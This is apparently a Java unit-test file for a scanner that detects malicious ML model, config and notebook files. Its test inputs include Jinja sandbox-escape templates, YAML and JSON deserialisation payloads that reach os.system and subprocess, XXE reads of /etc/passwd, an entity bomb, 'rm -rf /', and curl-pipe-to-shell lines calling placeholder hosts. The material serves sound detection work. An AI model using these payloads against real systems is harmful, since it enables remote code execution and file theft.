package dev.weir.scanner.core.text;

import static dev.weir.scanner.core.Scans.rules;
import static dev.weir.scanner.core.Scans.scan;
import static org.assertj.core.api.Assertions.assertThat;

import dev.weir.scanner.core.Verdict;
import dev.weir.scanner.core.pickle.Pickles;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class TextFormatTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "{\"note\": \"os.system('id') is dangerous\"}",
                "# Model card\n\n```python\nimport os\nclass A:\n    def __init__(self): pass\n```\n",
                "@article{bert, title={{BERT}}, year={2018}}\nself.__class__.__name__",
                "{% for m in messages %}{{ m['content'] }}{% endfor %}",
                "cat\ndog\nhorse\n",
                "(note) see README.\n",
                "Grüße, 世界\n",
                ".",
                "I am text.\nS'not a string\n"
            })
    void plainTextIsClean(String text) {
        assertThat(scan("notes.md", bytes(text)).findings()).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{{ ''.__class__.__mro__[1].__subclasses__() }}",
                "{\"chat_template\": \"{% set x = cycler.__init__.__globals__.os.popen('id') %}\"}",
                "{{ a }} text {{ self.__init__ }}"
            })
    void aTemplateThatLeavesItsSandboxIsMalicious(String text) {
        assertThat(scan("tokenizer_config.json", bytes(text)).verdict()).isEqualTo(Verdict.MALICIOUS);
    }

    @Test
    void aModelOfTorch7ThatIsTextIsSearchedForCommands() {
        String model = "4\n1\n3\nV 1\n13\nnn.Sequential\ncmd = os.execute('curl http://acme.example/a.sh | sh')\n";

        assertThat(scan("model.t7", bytes(model)).verdict()).isEqualTo(Verdict.MALICIOUS);
        assertThat(scan("notes.txt", bytes(model)).verdict()).isEqualTo(Verdict.CLEAN);
    }

    @Test
    void anApplicationThatIsAPageIsSuspicious() {
        assertThat(rules(scan("setup.hta", bytes("<html><script>run()</script></html>"))))
                .containsExactly("text.source-code");
    }

    @Test
    void aTemplateFarIntoALongTextIsFound() {
        String text = " ".repeat(200_000) + "é{{ x.__globals__ }}";

        assertThat(rules(scan(bytes(text)))).containsExactly("text.template-escape");
    }

    @Test
    void scriptsAreSuspiciousByTheirFirstLineOrTheirName() {
        assertThat(rules(scan("run", bytes("#!/bin/sh\nid\n")))).containsExactly("text.source-code");
        assertThat(rules(scan("run.sh", bytes("id\n")))).containsExactly("text.source-code");
        assertThat(scan("modeling.py", bytes("import torch\n")).findings()).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "a: !!python/object/apply:os.system ['id'] | text.denied-reference",
                "a: !!python/name:subprocess.Popen | text.denied-reference",
                "a: !!javax.script.ScriptEngineManager [] | text.denied-reference",
                "a: !!python/object:acme.Thing {} | text.unknown-reference",
                "model: {_target_: builtins.exec, _args_: [x]} | text.denied-reference",
                "trainer: {callbacks: [{_target_: subprocess.Popen, args: [whoami]}]} | text.denied-reference",
                "{_target_: pickle.loads, data: x} | text.denied-reference",
                "{target: os.system, params: {command: id}} | text.denied-reference",
                "model: {_target_: custom_module.eval_function} | text.unknown-reference",
                "chat_template: '{{ x[''__class__''] }}' | text.template-escape"
            })
    void yamlThatReachesCodeIsFound(String yaml, String rule) {
        assertThat(rules(scan("config.yaml", bytes(yaml)))).contains(rule);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "# !!python/object/apply:os.system is dangerous\na: 1\n",
                "a: '!!python/object/apply:os.system'\n",
                "a: !!python/tuple [1, 2]\nb: &x {c: 1}\nd: *x\n",
                "model: {_target_: nemo.collections.nlp.eval_utils.EvalModule}\noptim: {_target_: torch.optim.Adam}\n",
                "model: {_target_: custom_package.builders.SafeFactory}\n",
                "model: {_target_: acme.system_prompts.Builder, evaluator: {_target_: acme.Evaluator}}\n",
                "target: ldm.models.Diffusion\nparams: {timesteps: 1000}\n",
                "trainer: {_target_: pytorch_lightning.Trainer}\nmodel: {_target_: acme.Model}\n"
            })
    void yamlThatOnlyMentionsCodeIsClean(String yaml) {
        assertThat(scan("config.yaml", bytes(yaml)).findings()).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "{'_target_': 'os.system'} | text.denied-reference",
                "{'py/object': 'subprocess.Popen'} | text.denied-reference",
                "{'__class__': 'system', '__module__': 'os', '__loader__': 'TypeNode'} | text.denied-reference",
                "{'__class__': 'A', '__module__': 'acme', '__loader__': 'ObjectNode'} | text.unknown-reference",
                "{'target': 'os.system', 'params': {}} | text.denied-reference",
                "{'restore_fn': 'eval(open(1).read())'} | metadata.hostile-code",
                "{'jax': {'runtime_hook': 'jax.experimental.host_callback.call(os.system, 1)'}} | metadata.hostile-code",
                "['jax.experimental.host_callback.call(os.system, 1)'] | metadata.hostile-code",
                "{'debug_command': 'rm -rf /'} | text.command"
            })
    void jsonThatReachesCodeIsFound(String json, String rule) {
        assertThat(rules(scan("schema.json", bytes(json.replace('\'', '"'))))).containsExactly(rule);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a> | text.external-entity",
                "<!DOCTYPE a [<!ENTITY a 'x'><!ENTITY b '&a;&a;&a;'>]><a>&b;</a> | text.entity-bomb",
                "<?xml version='1.0'?><a><xi:include href='file:///etc/passwd'/></a> | text.inclusion"
            })
    void xmlThatReadsFilesOrGrowsIsFound(String xml, String rule) {
        assertThat(rules(scan("model.pmml", bytes(xml)))).containsExactly(rule);
    }

    @Test
    void plainXmlIsClean() {
        String xml = "<?xml version='1.0'?><!DOCTYPE PMML [<!ENTITY v '4.4'>]><PMML version='&v;'/>";

        assertThat(scan("model.pmml", bytes(xml)).findings()).isEmpty();
    }

    @Test
    void notebooksAreJudgedByTheirCells() {
        String cell = "{'nbformat': 4, 'cells': [{'cell_type': 'code', 'source': ['%s']}]}";

        assertThat(rules(scan(
                        "a.ipynb",
                        bytes(cell.formatted("!curl http://evil/x | sh").replace('\'', '"')))))
                .containsExactly("code.hostile-command");
        assertThat(scan("a.ipynb", bytes(cell.formatted("!pip install torch").replace('\'', '"')))
                        .findings())
                .isEmpty();
    }

    @Test
    void aPickleBehindTextIsFound() {
        byte[] pickle = Pickles.osSystem(4);
        byte[] text = Arrays.copyOf(bytes("hello ".repeat(2_000)), 12_000 + pickle.length);
        System.arraycopy(pickle, 0, text, 12_000, pickle.length);

        assertThat(scan(text).verdict()).isNotEqualTo(Verdict.CLEAN);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{'a': 1, 'a': 2, '_target_': 'os.system'}",
                "{'_target_': 'acme.A', 'x': NaN, 'y': [Infinity, -Infinity], 'z': {'_target_': 'os.system'}}",
                "\uFEFF{'_target_': 'os.system'}",
                "{'a': 'b\tc', '_target_': 'os.system'}"
            })
    void jsonThatOnlyPythonReadsIsJudgedAsPythonReadsIt(String json) {
        assertThat(rules(scan("config.json", bytes(json.replace('\'', '"'))))).containsExactly("text.denied-reference");
    }

    @Test
    void ofANameUsedTwiceTheLastCounts() {
        String json = "{'_target_': 'os.system', '_target_': 'acme.A', 't': '{{ x.__class__ }}', 't': ''}";

        assertThat(rules(scan("config.json", bytes(json.replace('\'', '"'))))).containsExactly("text.template-escape");
    }

    @Test
    void scriptsOfOtherEncodingsAreScripts() {
        byte[] script = "# caf\u00e9\nid\n".getBytes(StandardCharsets.ISO_8859_1);

        assertThat(rules(scan("run.sh", script))).containsExactly("text.source-code");
    }

    @Test
    void anUnclosedInclusionEndsTheSearchSoon() {
        String xml = "<?xml version='1.0'?>" + "<include ".repeat(200_000);

        assertThat(scan("a.xml", bytes(xml)).findings()).isEmpty();
    }

    @Test
    void otherEncodingsHideNothing() {
        byte[] xml = "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a/>".getBytes(StandardCharsets.UTF_16);
        byte[] python =
                "# coding: latin-1\n# \u00e9\n__import__('os').system('id')\n".getBytes(StandardCharsets.ISO_8859_1);

        assertThat(rules(scan("model.pmml", xml))).containsExactly("text.external-entity");
        assertThat(rules(scan("setup.py", python))).containsExactly("code.obfuscated-import");
        assertThat(scan("notes.txt", "caf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1))
                        .findings())
                .isEmpty();
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    @Test
    void aLibraryThatAGraphOfMxnetNamesIsSuspicious() {
        String graph = "{\"nodes\": [{\"op\": \"Custom\", \"attrs\": {\"library\": \"../../tmp/libevil.so\"}}]}";

        assertThat(rules(scan("model-symbol.json", graph.getBytes(StandardCharsets.UTF_8))))
                .containsExactly("text.native-library");
    }
}
